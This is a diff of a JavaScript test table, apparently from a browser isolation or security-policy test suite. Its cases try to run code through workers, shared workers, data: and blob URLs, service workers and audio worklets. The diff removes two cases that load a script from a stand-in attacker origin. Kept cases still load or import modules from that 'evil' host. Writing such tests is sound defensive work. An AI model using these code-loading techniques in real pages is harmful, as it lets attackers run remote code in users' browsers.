@@ -20,7 +20,6 @@ export default {
   "a shared blob: worker": ({ blob, sends }) => void new SharedWorker(blob(sends, "text/javascript")),
   "a data: worker": ({ sends }) => void new Worker(`data:text/javascript,${encodeURIComponent(sends)}`),
   "a data: shared worker": ({ sends }) => void new SharedWorker(`data:text/javascript,${encodeURIComponent(sends)}`),
-  "a worker of his": ({ evil }) => void new Worker(evil + "/x.js"),
   "a worker whose URL changes": ({ own, blob, sends }) => {
     let reads = 0;
     const bad = blob(sends, "text/javascript");
@@ -40,7 +39,6 @@ export default {
     add("iframe");
     return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, location.href + "sw.js", { scope: location.href });
   },
-  "a service worker of his": ({ evil }) => navigator.serviceWorker.register(evil + "/x.js"),
   "an audio worklet's module": ({ evil }) => new AudioContext().audioWorklet.addModule(evil + "/x.js"),
   "an audio worklet's import": ({ blob, evil }) =>
     new AudioContext().audioWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
